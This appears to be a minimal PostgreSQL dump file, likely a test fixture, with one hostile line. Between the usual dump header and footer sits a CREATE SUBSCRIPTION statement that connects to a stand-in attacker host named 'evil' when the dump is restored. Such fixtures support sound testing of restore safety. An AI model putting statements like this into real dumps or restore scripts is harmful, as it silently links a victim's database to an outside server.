--
-- PostgreSQL database dump
--

SET statement_timeout = 0;
SELECT pg_catalog.set_config('search_path', '', false);
CREATE SUBSCRIPTION s CONNECTION 'host=evil' PUBLICATION p;
--
-- PostgreSQL database dump complete
--

